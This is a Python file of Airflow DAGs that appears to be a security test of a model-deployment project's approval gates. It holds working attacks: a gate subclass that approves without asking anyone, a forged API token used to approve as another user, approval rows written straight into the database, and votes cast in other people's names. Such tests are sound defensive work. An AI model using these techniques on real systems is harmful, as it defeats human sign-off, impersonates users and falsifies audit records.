"""What somebody who may write DAGs could try against a run that waits at its gates.

It is copied beside the project's own DAG file. Every task gets its victim by the run's conf, runs where
all tasks run, with what all tasks have, and uses our own code against us.
"""

from __future__ import annotations

from typing import Any

from airflow.sdk import DAG, BaseOperator, task

from modelops_airflow.operators.approval import ApprovalSensor
from modelops_airflow.operators.deploy import DeployOperator


def victim(context: Any) -> Any:
    """The run under attack, as a task of it would open it."""
    from modelops_airflow.operators.run import open_run

    conf = context["dag_run"].conf

    class Pretended:
        dag_id, run_id, run_type = conf["dag_id"], conf["run_id"], "manual"
        data_interval_start = data_interval_end = None
        run_after = context["dag_run"].run_after

    return open_run({**context, "dag_run": Pretended()})  # type: ignore[typeddict-item]


class NoddingGate(ApprovalSensor):
    """A gate that asks nobody."""

    def execute(self, context: Any) -> str:
        return f"gate {self.task_id} is approved"


class Impostor(BaseOperator):
    """Deploys another DAG's run."""

    def execute(self, context: Any) -> str:
        from modelops_airflow.steps.deploy import deploy

        run = victim(context)
        return deploy(run, run.plan.step("deploy")).message


with DAG("attack.subclass", schedule=None, is_paused_upon_creation=False):
    gates = [NoddingGate(task_id=name) for name in ("approve-validation", "approve-risk")]
    gates >> DeployOperator(task_id="deploy", retries=0)
    gates >> Impostor(task_id="impostor")


with DAG("attack.token", schedule=None, is_paused_upon_creation=False):

    @task
    def approve_as_another_user(**context: Any) -> int:
        """Read the API's signing secret, which tasks of a local executor inherit, and be somebody else."""
        import httpx
        from airflow.api_fastapi.auth.managers.simple.simple_auth_manager import SimpleAuthManager
        from airflow.configuration import conf

        told = context["dag_run"].conf
        token = SimpleAuthManager._get_token_signer().generate({"sub": told["as"], "role": "viewer", "teams": None})
        answer = httpx.post(
            f"{conf.get('api', 'base_url')}/modelops/api/v1/approvals/{told['gate']}/decisions",
            json={"decision": "approve", "comment": "", "subject": told["subject"]},
            headers={"Authorization": f"Bearer {token}"}, timeout=60)
        print(answer.text)
        return answer.status_code

    approve_as_another_user()


with DAG("attack.rows", schedule=None, is_paused_upon_creation=False):

    @task
    def insert_approvals(**context: Any) -> None:
        """Write approvals into the register, as rows and nothing else."""
        from sqlalchemy import text

        from modelops_airflow.inventory.register import Register
        from modelops_airflow.operators.settings import settings_from_airflow

        engine = Register(settings_from_airflow().database_url).engine
        with engine.execution_options(modelops_write=True).begin() as connection:
            for one in context["dag_run"].conf["approvals"]:
                connection.execute(text(
                    "INSERT INTO modelops_decision (gate, step, subject, person, role, decision, meaning, comment, auth) "
                    "VALUES (:gate, :step, :subject, :person, :role, 'approve', :meaning, '', :auth)"), one)

    insert_approvals()


with DAG("attack.votes", schedule=None, is_paused_upon_creation=False):

    @task
    def vote_for_others(**context: Any) -> None:
        """Do what the API server does when somebody approves, ledger and all, without anybody."""
        from modelops_airflow.governance.transaction import Actor
        from modelops_airflow.governance.vote import vote
        from modelops_airflow.inventory.register import Register
        from modelops_airflow.operators.settings import settings_from_airflow

        register = Register(settings_from_airflow().database_url)
        for one in context["dag_run"].conf["approvals"]:
            vote(register, one["gate"], Actor("simple", one["person"], one["person"]), "approve", "", one["subject"])

    vote_for_others()
